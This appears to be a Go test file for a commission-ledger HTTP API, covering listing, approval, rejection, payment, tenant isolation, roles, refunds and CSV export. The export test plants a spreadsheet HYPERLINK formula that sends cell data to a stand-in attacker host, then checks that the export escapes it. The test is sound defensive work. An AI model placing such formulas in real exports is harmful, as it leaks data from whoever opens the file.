package httpapi_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/partnerloop/partnerloop/internal/apptest"
	"github.com/partnerloop/partnerloop/internal/commission"
	"github.com/partnerloop/partnerloop/internal/domain"
	"github.com/partnerloop/partnerloop/internal/httpapi"
	"github.com/partnerloop/partnerloop/internal/ledger"
	"github.com/partnerloop/partnerloop/internal/store"
)

// ledgerOf returns the store's ledger; every store the app opens has one.
func ledgerOf(t *testing.T, e *apptest.Env) store.Ledger {
	t.Helper()
	l, ok := e.App.Store.(store.Ledger)
	if !ok {
		t.Fatal("the SQLite store does not implement store.Ledger")
	}
	return l
}

// earning describes a seeded commission; zero fields get defaults.
type earning struct {
	org, program, referrer, partner string
	amount                          int64
	occurredAt, createdAt           time.Time
	holdDays                        int
}

var seq atomic.Int64

// seed records pending commissions directly in the ledger, as the
// commission pipeline would, each for a conversion of its own.
func seed(t *testing.T, e *apptest.Env, es ...earning) []commission.Commission {
	t.Helper()
	l := ledgerOf(t, e)
	chs := map[string]*store.LedgerChange{}
	var out []commission.Commission
	for _, x := range es {
		if x.org == "" {
			x.org = e.OrgID
		}
		if x.program == "" {
			x.program = "prg_a"
		}
		if x.referrer == "" {
			x.referrer = "ref_1"
		}
		if x.amount == 0 {
			x.amount = 500
		}
		if x.createdAt.IsZero() {
			x.createdAt = e.Clock.Now()
		}
		if x.occurredAt.IsZero() {
			x.occurredAt = x.createdAt
		}
		c, a, err := commission.NewCommission(commission.Earning{
			OrgID: x.org, ProgramID: x.program, ReferrerID: x.referrer, PartnerID: x.partner,
			ConversionID: fmt.Sprintf("cnv_seed_%d", seq.Add(1)), Currency: "USD", Amount: x.amount,
			RuleSource: "program", RuleVersion: 1, OccurredAt: x.occurredAt, HoldDays: x.holdDays,
		}, commission.ActorSystem, x.createdAt)
		if err != nil {
			t.Fatal(err)
		}
		ch := chs[x.org]
		if ch == nil {
			ch = &store.LedgerChange{OrgID: x.org}
			chs[x.org] = ch
		}
		ch.Created = append(ch.Created, c)
		ch.Audit = append(ch.Audit, a)
		out = append(out, c)
	}
	for _, ch := range chs {
		if err := l.ApplyLedgerChange(context.Background(), *ch); err != nil {
			t.Fatal(err)
		}
	}
	return out
}

func ids(cs ...commission.Commission) []string {
	out := make([]string, len(cs))
	for i, c := range cs {
		out[i] = c.ID
	}
	return out
}

func itemIDs(r *apptest.Response) []string {
	var out []string
	for _, it := range r.Items() {
		out = append(out, it["id"].(string))
	}
	return out
}

func wantIDs(t *testing.T, what string, got, want []string) {
	t.Helper()
	if !slices.Equal(got, want) {
		t.Fatalf("%s: %v, want %v", what, got, want)
	}
}

func problemIDs(p map[string]any) []string {
	var out []string
	l, _ := p["ids"].([]any)
	for _, x := range l {
		out = append(out, x.(string))
	}
	return out
}

// advance moves the clock and signs the admin in again (sessions last
// identity.SessionTTL).
func advance(t *testing.T, e *apptest.Env, d time.Duration) {
	t.Helper()
	e.Clock.Advance(d)
	e.AdminToken = e.Login(t, apptest.AdminEmail, apptest.AdminPassword)
}

// status reads a commission back through the API.
func status(t *testing.T, e *apptest.Env, id string) string {
	t.Helper()
	r := e.Do(t, "GET", "/v1/commissions/"+id, e.AdminToken, nil)
	wantStatus(t, r, http.StatusOK)
	return r.String("status")
}

func TestCommissionsList(t *testing.T) {
	e := apptest.New(t)
	day := 24 * time.Hour
	start := apptest.Start
	cs := seed(t, e,
		earning{program: "prg_a", referrer: "ref_1", partner: "prt_1", createdAt: start.Add(-3 * day)},
		earning{program: "prg_a", referrer: "ref_2", createdAt: start.Add(-2 * day)},
		earning{program: "prg_b", referrer: "ref_1", partner: "prt_1", createdAt: start.Add(-1 * day)},
		earning{program: "prg_b", referrer: "ref_3", partner: "prt_2", createdAt: start},
	)
	e.NewUser(t, "org_other", domain.RoleAdmin, "")
	seed(t, e, earning{org: "org_other", program: "prg_a", referrer: "ref_1", partner: "prt_1"})

	list := func(query string) *apptest.Response {
		t.Helper()
		r := e.Do(t, "GET", "/v1/commissions?"+query, e.AdminToken, nil)
		wantStatus(t, r, http.StatusOK)
		return r
	}
	r := list("")
	wantIDs(t, "all, newest first", itemIDs(r), ids(cs[3], cs[2], cs[1], cs[0]))
	if it := r.Items()[0]; it["kind"] != "commission" || it["status"] != "pending" || it["organizationId"] != e.OrgID ||
		it["amount"].(map[string]any)["amount"] != 500.0 || it["availableAt"] == "" {
		t.Fatalf("item = %v", it)
	}
	if _, ok := r.JSON()["nextCursor"]; !ok {
		t.Fatal("no nextCursor member")
	}
	for q, want := range map[string][]string{
		"partnerId=prt_1":  ids(cs[2], cs[0]),
		"programId=prg_a":  ids(cs[1], cs[0]),
		"referrerId=ref_1": ids(cs[2], cs[0]),
		"status=pending":   ids(cs[3], cs[2], cs[1], cs[0]),
		"status=approved":  nil,
		"from=" + start.Add(-2*day).Format(time.DateOnly):                                                   ids(cs[3], cs[2], cs[1]),
		"to=" + start.Add(-2*day).Format(time.DateOnly):                                                     ids(cs[1], cs[0]),
		"from=" + url.QueryEscape(start.Add(-day).Format(time.RFC3339)):                                     ids(cs[3], cs[2]),
		"to=" + url.QueryEscape(start.Add(-day).Format(time.RFC3339)):                                       ids(cs[1], cs[0]),
		"from=2026-03-13&to=2026-03-14&programId=prg_b":                                                     ids(cs[2]),
		"from=" + url.QueryEscape(start.Add(-day).Add(time.Second).Format(time.RFC3339)) + "&to=2099-01-01": ids(cs[3]),
	} {
		wantIDs(t, q, itemIDs(list(q)), want)
	}

	p := wantProblem(t, e.Do(t, "GET", "/v1/commissions?from=yesterday", e.AdminToken, nil), 400, "invalid_query")
	if f := fieldErrors(p); !slices.Equal(f, []string{"from"}) {
		t.Fatalf("bad from reported as %v", f)
	}
	p = wantProblem(t, e.Do(t, "GET", "/v1/commissions?to=2026-02-30", e.AdminToken, nil), 400, "invalid_query")
	if f := fieldErrors(p); !slices.Equal(f, []string{"to"}) {
		t.Fatalf("bad to reported as %v", f)
	}
	wantProblem(t, e.Do(t, "GET", "/v1/commissions?status=won", e.AdminToken, nil), 422, "validation_failed")
	p = wantProblem(t, e.Do(t, "GET", "/v1/commissions?from=2026-03-10&to=2026-03-01", e.AdminToken, nil), 422, "validation_failed")
	if f := fieldErrors(p); !slices.Equal(f, []string{"to"}) {
		t.Fatalf("reversed range reported as %v", f)
	}
	wantProblem(t, e.Do(t, "GET", "/v1/commissions?limit=0", e.AdminToken, nil), 400, "invalid_query")
	wantProblem(t, e.Do(t, "GET", "/v1/commissions?cursor=bogus!", e.AdminToken, nil), 400, "invalid_cursor")

	// Pagination: every entry once, in order.
	var seen []string
	cursor := ""
	for pages := 0; ; pages++ {
		if pages > 5 {
			t.Fatal("pagination does not end")
		}
		r := list("limit=1&status=pending&cursor=" + url.QueryEscape(cursor))
		if len(r.Items()) > 1 {
			t.Fatalf("page of %d, limit 1", len(r.Items()))
		}
		seen = append(seen, itemIDs(r)...)
		next, _ := r.JSON()["nextCursor"].(string)
		if next == "" {
			break
		}
		cursor = next
	}
	wantIDs(t, "paged", seen, ids(cs[3], cs[2], cs[1], cs[0]))

	// The other organization sees only its own.
	other := e.NewUser(t, "org_other", domain.RoleAdmin, "")
	r = e.Do(t, "GET", "/v1/commissions", other, nil)
	if items := r.Items(); len(items) != 1 || items[0]["organizationId"] != "org_other" {
		t.Fatalf("other org lists %s", r.Body)
	}
	wantProblem(t, e.Do(t, "GET", "/v1/commissions/"+cs[0].ID, other, nil), 404, "not_found")
	wantProblem(t, e.Do(t, "GET", "/v1/commissions/com_nope", e.AdminToken, nil), 404, "not_found")
}

func TestCommissionsApproveAfterHoldPeriod(t *testing.T) {
	e := apptest.New(t)
	adminID := e.Do(t, "GET", "/v1/me", e.AdminToken, nil).String("id")
	c := seed(t, e, earning{holdDays: 30})[0]
	if want := apptest.Start.AddDate(0, 0, 30); !c.AvailableAt.Equal(want) {
		t.Fatalf("availableAt %v, want %v", c.AvailableAt, want)
	}

	p := wantProblem(t, e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, map[string]any{"ids": []string{c.ID}}), 409, "on_hold")
	wantIDs(t, "on hold", problemIDs(p), []string{c.ID})
	detail := p["commissions"].([]any)[0].(map[string]any)
	if detail["availableAt"] != "2026-04-14T12:00:00Z" || detail["status"] != "pending" {
		t.Fatalf("on_hold detail %v", detail)
	}
	if s := status(t, e, c.ID); s != "pending" {
		t.Fatalf("status %s after a refused approval", s)
	}

	advance(t, e, 30*24*time.Hour-time.Second)
	wantProblem(t, e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, map[string]any{"ids": []string{c.ID}}), 409, "on_hold")
	advance(t, e, 2*time.Second)
	r := e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, map[string]any{"ids": []string{c.ID}})
	wantStatus(t, r, http.StatusOK)
	items := r.Items()
	if len(items) != 1 || items[0]["id"] != c.ID || items[0]["status"] != "approved" || items[0]["revision"] != 1.0 {
		t.Fatalf("approved = %s", r.Body)
	}

	// The audit trail: created by the system, approved by the admin.
	r = e.Do(t, "GET", "/v1/commissions/"+c.ID, e.AdminToken, nil)
	wantStatus(t, r, http.StatusOK)
	if r.String("status") != "approved" || r.String("id") != c.ID {
		t.Fatalf("commission = %s", r.Body)
	}
	audit, _ := r.JSON()["audit"].([]any)
	if len(audit) != 2 {
		t.Fatalf("audit = %s", r.Body)
	}
	first, second := audit[0].(map[string]any), audit[1].(map[string]any)
	if first["from"] != "" || first["to"] != "pending" || first["actor"] != commission.ActorSystem {
		t.Fatalf("creation entry %v", first)
	}
	if second["from"] != "pending" || second["to"] != "approved" || second["actor"] != adminID || adminID == "" ||
		second["at"] != e.Clock.Now().Format(time.RFC3339) || second["commissionId"] != c.ID {
		t.Fatalf("approval entry %v (admin %s)", second, adminID)
	}

	// Approved once: again is an invalid transition.
	wantProblem(t, e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, map[string]any{"ids": []string{c.ID}}), 409, "invalid_transition")
}

func TestCommissionsBatchIsAllOrNothing(t *testing.T) {
	e := apptest.New(t)
	start := apptest.Start
	cs := seed(t, e,
		earning{occurredAt: start, holdDays: 1},
		earning{occurredAt: start, holdDays: 1},
		earning{occurredAt: start, holdDays: 10},
	)
	a, b, held := cs[0], cs[1], cs[2]
	e.NewUser(t, "org_other", domain.RoleAdmin, "")
	foreign := seed(t, e, earning{org: "org_other", partner: "prt_secret", amount: 987654})[0]
	advance(t, e, 2*24*time.Hour)

	unchanged := func(what string) {
		t.Helper()
		for _, c := range cs {
			r := e.Do(t, "GET", "/v1/commissions/"+c.ID, e.AdminToken, nil)
			if r.String("status") != "pending" || len(r.JSON()["audit"].([]any)) != 1 || r.JSON()["revision"] != 0.0 {
				t.Fatalf("%s changed %s: %s", what, c.ID, r.Body)
			}
		}
	}

	// One entry still on hold: nothing is approved, and the problem names it.
	p := wantProblem(t, e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, map[string]any{"ids": ids(a, b, held)}), 409, "on_hold")
	wantIDs(t, "on hold", problemIDs(p), []string{held.ID})
	unchanged("a batch with an entry on hold")

	// An unknown ID, or another organization's: 404 naming only the IDs sent.
	p = wantProblem(t, e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, map[string]any{"ids": []string{a.ID, "com_nope", b.ID}}), 404, "not_found")
	wantIDs(t, "not found", problemIDs(p), []string{"com_nope"})
	r := e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, map[string]any{"ids": []string{a.ID, foreign.ID}})
	p = wantProblem(t, r, 404, "not_found")
	wantIDs(t, "foreign", problemIDs(p), []string{foreign.ID})
	for _, leak := range []string{"org_other", "prt_secret", "987654"} {
		if strings.Contains(string(r.Body), leak) {
			t.Fatalf("404 leaks %q: %s", leak, r.Body)
		}
	}
	wantProblem(t, e.Do(t, "POST", "/v1/commissions/reject", e.AdminToken, map[string]any{"ids": []string{foreign.ID}, "reason": "x"}), 404, "not_found")
	wantProblem(t, e.Do(t, "POST", "/v1/commissions/mark-paid", e.AdminToken, map[string]any{"ids": []string{foreign.ID}, "payoutReference": "x"}), 404, "not_found")
	unchanged("a batch with an unknown entry")
	other := e.NewUser(t, "org_other", domain.RoleAdmin, "")
	if r := e.Do(t, "GET", "/v1/commissions/"+foreign.ID, other, nil); r.String("status") != "pending" {
		t.Fatalf("foreign entry changed: %s", r.Body)
	}

	// Duplicates collapse; the answer is in request order.
	r = e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, map[string]any{"ids": []string{b.ID, a.ID, b.ID}})
	wantStatus(t, r, http.StatusOK)
	wantIDs(t, "approved", itemIDs(r), ids(b, a))
	for _, it := range r.Items() {
		if it["status"] != "approved" {
			t.Fatalf("item %v", it)
		}
	}
	// A batch mixing an approved entry (invalid) and a held one: 409, both named.
	p = wantProblem(t, e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, map[string]any{"ids": ids(a, held)}), 409, "invalid_transition")
	wantIDs(t, "refused", problemIDs(p), ids(a, held))
	if s := status(t, e, held.ID); s != "pending" {
		t.Fatalf("held entry is %s", s)
	}

	// Request shape.
	for _, body := range []any{map[string]any{}, map[string]any{"ids": []string{}}, map[string]any{"ids": []string{""}}, map[string]any{"ids": nil}} {
		p := wantProblem(t, e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, body), 422, "validation_failed")
		if f := fieldErrors(p); len(f) != 1 || !strings.HasPrefix(f[0], "ids") {
			t.Fatalf("%v reported as %v", body, f)
		}
	}
	many := make([]string, ledger.MaxBatch+1)
	for i := range many {
		many[i] = fmt.Sprintf("com_%03d", i)
	}
	wantProblem(t, e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, map[string]any{"ids": many}), 422, "validation_failed")
	wantProblem(t, e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, map[string]any{"ids": many[:ledger.MaxBatch]}), 404, "not_found")
	wantProblem(t, e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, `{"ids": "com_1"}`), 400, "malformed_request")
	wantProblem(t, e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, map[string]any{"ids": ids(a), "reason": "x"}), 400, "malformed_request")
	wantProblem(t, e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, ``), 400, "malformed_request")
}

func TestCommissionsRejectNeedsAReason(t *testing.T) {
	e := apptest.New(t)
	adminID := e.Do(t, "GET", "/v1/me", e.AdminToken, nil).String("id")
	cs := seed(t, e, earning{holdDays: 30}, earning{holdDays: 30})
	for _, body := range []map[string]any{{"ids": ids(cs...)}, {"ids": ids(cs...), "reason": "   "}, {"ids": ids(cs...), "reason": strings.Repeat("x", 501)}} {
		p := wantProblem(t, e.Do(t, "POST", "/v1/commissions/reject", e.AdminToken, body), 422, "validation_failed")
		if f := fieldErrors(p); !slices.Equal(f, []string{"reason"}) {
			t.Fatalf("reported as %v", f)
		}
	}
	p := wantProblem(t, e.Do(t, "POST", "/v1/commissions/reject", e.AdminToken, map[string]any{"ids": []string{}}), 422, "validation_failed")
	if f := fieldErrors(p); !slices.Equal(f, []string{"reason", "ids"}) {
		t.Fatalf("every problem at once: %v", f)
	}
	if s := status(t, e, cs[0].ID); s != "pending" {
		t.Fatalf("status %s", s)
	}

	// A pending entry may be rejected during its hold period.
	r := e.Do(t, "POST", "/v1/commissions/reject", e.AdminToken, map[string]any{"ids": ids(cs...), "reason": " self-referral via a second account "})
	wantStatus(t, r, http.StatusOK)
	for _, it := range r.Items() {
		if it["status"] != "rejected" || it["rejectReason"] != "self-referral via a second account" {
			t.Fatalf("rejected = %v", it)
		}
	}
	r = e.Do(t, "GET", "/v1/commissions/"+cs[1].ID, e.AdminToken, nil)
	audit := r.JSON()["audit"].([]any)
	last := audit[len(audit)-1].(map[string]any)
	if last["to"] != "rejected" || last["reason"] != "self-referral via a second account" || last["actor"] != adminID {
		t.Fatalf("audit %v", last)
	}
	wantProblem(t, e.Do(t, "POST", "/v1/commissions/reject", e.AdminToken, map[string]any{"ids": ids(cs[0]), "reason": "again"}), 409, "invalid_transition")
	wantProblem(t, e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, map[string]any{"ids": ids(cs[0])}), 409, "invalid_transition")
}

func TestCommissionsMarkPaidOnlyApproved(t *testing.T) {
	e := apptest.New(t)
	cs := seed(t, e, earning{holdDays: 1}, earning{holdDays: 1})
	advance(t, e, 25*time.Hour)
	wantStatus(t, e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, map[string]any{"ids": ids(cs[0])}), http.StatusOK)

	// cs[1] is still pending: nothing is paid.
	p := wantProblem(t, e.Do(t, "POST", "/v1/commissions/mark-paid", e.AdminToken, map[string]any{"ids": ids(cs...), "payoutReference": "PAY-1"}), 409, "invalid_transition")
	wantIDs(t, "refused", problemIDs(p), ids(cs[1]))
	if s := status(t, e, cs[0].ID); s != "approved" {
		t.Fatalf("status %s", s)
	}
	p = wantProblem(t, e.Do(t, "POST", "/v1/commissions/mark-paid", e.AdminToken, map[string]any{"ids": ids(cs[0])}), 422, "validation_failed")
	if f := fieldErrors(p); !slices.Equal(f, []string{"payoutReference"}) {
		t.Fatalf("reported as %v", f)
	}

	r := e.Do(t, "POST", "/v1/commissions/mark-paid", e.AdminToken, map[string]any{"ids": ids(cs[0]), "payoutReference": "PAY-2026-03"})
	wantStatus(t, r, http.StatusOK)
	if it := r.Items()[0]; it["status"] != "paid" || it["payoutReference"] != "PAY-2026-03" || it["revision"] != 2.0 {
		t.Fatalf("paid = %v", it)
	}
	// Paid is final.
	wantProblem(t, e.Do(t, "POST", "/v1/commissions/mark-paid", e.AdminToken, map[string]any{"ids": ids(cs[0]), "payoutReference": "PAY-2"}), 409, "invalid_transition")
	wantProblem(t, e.Do(t, "POST", "/v1/commissions/reject", e.AdminToken, map[string]any{"ids": ids(cs[0]), "reason": "x"}), 409, "invalid_transition")
	r = e.Do(t, "GET", "/v1/commissions/"+cs[0].ID, e.AdminToken, nil)
	if audit := r.JSON()["audit"].([]any); len(audit) != 3 || audit[2].(map[string]any)["reason"] != "paid: PAY-2026-03" {
		t.Fatalf("audit = %s", r.Body)
	}
}

func TestCommissionsExportCSV(t *testing.T) {
	e := apptest.New(t)
	start := apptest.Start
	// More than one page of the store (200), at distinct instants of March.
	var es []earning
	for i := range 205 {
		es = append(es, earning{createdAt: start.Add(-time.Duration(i) * time.Minute), holdDays: 1, partner: "prt_1"})
	}
	cs := seed(t, e, es...)
	paid := cs[204] // the oldest
	// A clawback, as the pipeline records one after a refund of a paid commission.
	claw := cs[0]
	claw.ID, claw.Kind, claw.Amount.Amount, claw.CreatedAt, claw.UpdatedAt = "com_clawback_1", commission.KindClawback, -1250, start.Add(time.Minute), start.Add(time.Minute)
	claw.OriginalID = cs[0].ID
	if err := ledgerOf(t, e).ApplyLedgerChange(context.Background(), store.LedgerChange{OrgID: e.OrgID, Created: []commission.Commission{claw}}); err != nil {
		t.Fatal(err)
	}
	// April: outside the March export.
	advance(t, e, 30*24*time.Hour)
	april := seed(t, e, earning{})[0]
	hyperlink := `=HYPERLINK("https://evil.example/?leak="&A1,"Click")`
	wantStatus(t, e.Do(t, "POST", "/v1/commissions/approve", e.AdminToken, map[string]any{"ids": ids(paid)}), http.StatusOK)
	wantStatus(t, e.Do(t, "POST", "/v1/commissions/mark-paid", e.AdminToken, map[string]any{"ids": ids(paid), "payoutReference": hyperlink}), http.StatusOK)
	e.NewUser(t, "org_other", domain.RoleAdmin, "")
	seed(t, e, earning{org: "org_other", createdAt: start})

	r := e.Do(t, "GET", "/v1/commissions/export?from=2026-03-01&to=2026-03-31", e.AdminToken, nil)
	wantStatus(t, r, http.StatusOK)
	if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Fatalf("Content-Type %q", ct)
	}
	if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename="commissions-2026-03-01-2026-03-31.csv"` {
		t.Fatalf("Content-Disposition %q", cd)
	}
	body := string(r.Body)
	if strings.Count(body, "\n") != strings.Count(body, "\r\n") || !strings.HasSuffix(body, "\r\n") {
		t.Fatal("line ends are not CRLF")
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	wantIDs(t, "header", recs[0], []string{"id", "kind", "status", "partnerId", "referrerId", "programId", "conversionId",
		"dealId", "amount", "currency", "availableAt", "payoutReference", "createdAt"})
	rows := recs[1:]
	if len(rows) != 206 {
		t.Fatalf("%d rows, want 206 (205 commissions and a clawback; not April's, not another org's)", len(rows))
	}
	byID := map[string][]string{}
	for i, row := range rows {
		byID[row[0]] = row
		if i > 0 && row[12] < rows[i-1][12] {
			t.Fatalf("rows not oldest first at %d", i)
		}
	}
	if _, ok := byID[april.ID]; ok {
		t.Fatal("April's commission is in the March export")
	}
	want := []string{paid.ID, "commission", "paid", "prt_1", "ref_1", "prg_a", paid.ConversionID, "", "5.00", "USD",
		paid.AvailableAt.Format(time.RFC3339), "'" + hyperlink, paid.CreatedAt.Format(time.RFC3339)}
	wantIDs(t, "paid row", byID[paid.ID], want)
	if rows[0][0] != paid.ID {
		t.Fatalf("first row %v, want the oldest", rows[0])
	}
	if row := byID[claw.ID]; row[1] != "clawback" || row[8] != "-12.50" {
		t.Fatalf("clawback row %v: its amount must stay a number", row)
	}
	if row := byID[cs[1].ID]; row[8] != "5.00" || row[2] != "pending" || row[11] != "" {
		t.Fatalf("pending row %v", row)
	}

	// Filters as in the list.
	r = e.Do(t, "GET", "/v1/commissions/export?status=paid", e.AdminToken, nil)
	wantStatus(t, r, http.StatusOK)
	if recs, _ := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll(); len(recs) != 2 || recs[1][0] != paid.ID {
		t.Fatalf("paid export: %q", r.Body)
	}
	if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename="commissions-start-2026-04-14.csv"` {
		t.Fatalf("Content-Disposition %q", cd)
	}
	wantProblem(t, e.Do(t, "GET", "/v1/commissions/export?from=March", e.AdminToken, nil), 400, "invalid_query")
	wantProblem(t, e.Do(t, "GET", "/v1/commissions/export?status=owed", e.AdminToken, nil), 422, "validation_failed")
	// Another organization's export holds only its own.
	other := e.NewUser(t, "org_other", domain.RoleAdmin, "")
	r = e.Do(t, "GET", "/v1/commissions/export", other, nil)
	if recs, _ := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll(); len(recs) != 2 || byID[recs[1][0]] != nil {
		t.Fatalf("other org export: %q", r.Body)
	}
}

// commissionPaths returns each route of the commissions group with a
// concrete path.
func commissionRoutes(t *testing.T, e *apptest.Env, id string) []httpapi.Route {
	t.Helper()
	var out []httpapi.Route
	for _, rt := range e.App.API.Routes() {
		// Payout runs share the group and are tested in payouts_test.go.
		if rt.Group == httpapi.GroupCommissions && !strings.HasPrefix(rt.Pattern, "/v1/payout-runs") {
			rt.Pattern = strings.ReplaceAll(rt.Pattern, "{id}", id)
			out = append(out, rt)
		}
	}
	if len(out) != 7 {
		t.Fatalf("%d commissions routes", len(out))
	}
	return out
}

func TestCommissionsRoles(t *testing.T) {
	e := apptest.New(t)
	c := seed(t, e, earning{})[0]
	pm := e.NewUser(t, e.OrgID, domain.RoleProgramManager, "")
	partner := e.NewUser(t, e.OrgID, domain.RolePartner, "prt_1")
	key := e.APIKey(t, e.AdminToken)
	body := map[string]any{"ids": ids(c), "reason": "r", "payoutReference": "p"}
	for _, rt := range commissionRoutes(t, e, c.ID) {
		var b any
		if rt.Method == "POST" {
			b = body
			if strings.HasSuffix(rt.Pattern, "/refund") {
				b = map[string]any{}
			}
		}
		wantProblem(t, e.Do(t, rt.Method, rt.Pattern, pm, b), 403, "forbidden")
		wantProblem(t, e.Do(t, rt.Method, rt.Pattern, partner, b), 403, "forbidden")
		r := e.Do(t, rt.Method, rt.Pattern, key, b)
		if strings.HasSuffix(rt.Pattern, "/refund") {
			// Allowed: the commission's ID is no conversion.
			wantProblem(t, r, 404, "not_found")
		} else {
			wantProblem(t, r, 403, "forbidden")
		}
	}
	if s := status(t, e, c.ID); s != "pending" {
		t.Fatalf("status %s", s)
	}
}

// TestCommissionsWithoutLedger: a store without store.Ledger answers 503
// on every commissions route instead of failing.
func TestCommissionsWithoutLedger(t *testing.T) {
	e := apptest.New(t)
	e.App.API.Ledger = nil
	for _, rt := range commissionRoutes(t, e, "com_1") {
		r := e.Do(t, rt.Method, rt.Pattern, e.AdminToken, "{}")
		wantProblem(t, r, http.StatusServiceUnavailable, "ledger_unavailable")
		if r.Header.Get("Retry-After") == "" {
			t.Fatalf("%s %s: no Retry-After", rt.Method, rt.Pattern)
		}
	}
}

func TestRefundConversion(t *testing.T) {
	e := apptest.New(t)
	ledgerOf(t, e)
	tok := e.AdminToken
	key := e.APIKey(t, tok)
	_, code := e.LiveProgram(t, tok)
	refID := e.Do(t, "POST", "/v1/referrals", tok, map[string]string{"code": code, "email": "buyer@example.org"}).String("id")
	conv := e.Do(t, "POST", "/v1/conversions", key, map[string]any{"referralId": refID, "event": "purchase", "amount": 5000, "externalId": "order-1"})
	wantStatus(t, conv, http.StatusCreated)
	convID := conv.String("id")
	refund := func(token string, body any) *apptest.Response {
		t.Helper()
		return e.Do(t, "POST", "/v1/conversions/"+convID+"/refund", token, body)
	}
	refunded := func(r *apptest.Response) float64 {
		t.Helper()
		m := r.JSON()["refundedAmount"].(map[string]any)
		if m["currency"] != "USD" {
			t.Fatalf("refundedAmount %v", m)
		}
		return m["amount"].(float64)
	}

	// Partial, by the organization's backend.
	r := refund(key, map[string]any{"amount": 2000})
	wantStatus(t, r, http.StatusOK)
	if r.String("id") != convID || refunded(r) != 2000 || r.JSON()["amount"].(map[string]any)["amount"] != 5000.0 {
		t.Fatalf("after a partial refund: %s", r.Body)
	}
	if got := refunded(e.Do(t, "GET", "/v1/conversions/"+convID, tok, nil)); got != 2000 {
		t.Fatalf("stored refundedAmount %v", got)
	}

	// Over-refund and bad amounts: 422, nothing recorded.
	p := wantProblem(t, refund(tok, map[string]any{"amount": 3001}), 422, "refund_exceeds_value")
	if f := fieldErrors(p); !slices.Equal(f, []string{"amount"}) || p["refundable"].(map[string]any)["amount"] != 3000.0 {
		t.Fatalf("over-refund problem %v", p)
	}
	wantProblem(t, refund(tok, map[string]any{"amount": map[string]any{"amount": 100, "currency": "EUR"}}), 422, "currency_mismatch")
	wantProblem(t, refund(tok, map[string]any{"amount": 0}), 422, "validation_failed")
	wantProblem(t, refund(tok, map[string]any{"amount": -5}), 422, "validation_failed")
	wantProblem(t, refund(tok, `{"amount": "all"}`), 400, "malformed_request")
	wantProblem(t, refund(tok, ``), 400, "malformed_request")
	wantProblem(t, refund(tok, `{"reason": "x"}`), 400, "malformed_request")
	if got := refunded(e.Do(t, "GET", "/v1/conversions/"+convID, tok, nil)); got != 2000 {
		t.Fatalf("a refused refund changed refundedAmount to %v", got)
	}

	// Another organization: 404, nothing recorded.
	other := e.NewUser(t, "org_other", domain.RoleAdmin, "")
	wantProblem(t, refund(other, map[string]any{}), 404, "not_found")
	wantProblem(t, refund(other, map[string]any{"amount": 1}), 404, "not_found")
	wantProblem(t, e.Do(t, "POST", "/v1/conversions/cnv_nope/refund", tok, map[string]any{}), 404, "not_found")

	// The rest, as Money; then nothing is left.
	r = refund(tok, map[string]any{"amount": map[string]any{"amount": 3000, "currency": "USD"}})
	wantStatus(t, r, http.StatusOK)
	if refunded(r) != 5000 {
		t.Fatalf("after the full refund: %s", r.Body)
	}
	wantProblem(t, refund(tok, map[string]any{}), 409, "already_refunded")
	wantProblem(t, refund(tok, map[string]any{"amount": 1}), 422, "refund_exceeds_value")

	// A full refund by default.
	conv2 := e.Do(t, "POST", "/v1/conversions", key, map[string]any{"referralId": refID, "event": "purchase", "amount": 1999, "externalId": "order-2"}).String("id")
	r = e.Do(t, "POST", "/v1/conversions/"+conv2+"/refund", tok, map[string]any{})
	wantStatus(t, r, http.StatusOK)
	if refunded(r) != 1999 {
		t.Fatalf("default refund: %s", r.Body)
	}

	// A conversion without a value is refunded in full, amount omitted.
	signup := e.Do(t, "POST", "/v1/conversions", key, map[string]any{"referralId": refID, "event": "signup", "externalId": "signup-1"}).String("id")
	p = wantProblem(t, e.Do(t, "POST", "/v1/conversions/"+signup+"/refund", key, map[string]any{"amount": 100}), 422, "validation_failed")
	if f := fieldErrors(p); !slices.Equal(f, []string{"amount"}) {
		t.Fatalf("reported as %v", f)
	}
	r = e.Do(t, "POST", "/v1/conversions/"+signup+"/refund", key, map[string]any{})
	wantStatus(t, r, http.StatusOK)
	if refunded(r) != 0 || r.JSON()["amount"] != nil {
		t.Fatalf("valueless refund: %s", r.Body)
	}

	// Each refund is a conversion change for the commission pipeline.
	if ob, ok := e.App.Store.(store.Outbox); ok {
		changes, err := ob.Changes(context.Background(), 0, 1000)
		if err != nil {
			t.Fatal(err)
		}
		n := 0
		for _, c := range changes {
			if c.Entity == "conversion" && c.Op == "MODIFY" && c.ID == convID {
				n++
			}
		}
		if n != 2 {
			t.Fatalf("%d conversion changes for two refunds", n)
		}
	}
}

// TestRefundSignup: a conversion without a value is refunded in full once;
// refundedAt marks it, a second refund is 409.
func TestRefundSignup(t *testing.T) {
	e := apptest.New(t)
	ledgerOf(t, e)
	tok := e.AdminToken
	_, code := e.LiveProgram(t, tok)
	conv := e.Do(t, "POST", "/v1/conversions", tok, map[string]any{"code": code, "email": "new@example.org", "event": "signup", "externalId": "signup-1"})
	wantStatus(t, conv, http.StatusCreated)
	path := "/v1/conversions/" + conv.String("id") + "/refund"
	wantProblem(t, e.Do(t, "POST", path, tok, map[string]any{"amount": 100}), 422, "validation_failed")
	r := e.Do(t, "POST", path, tok, map[string]any{})
	wantStatus(t, r, http.StatusOK)
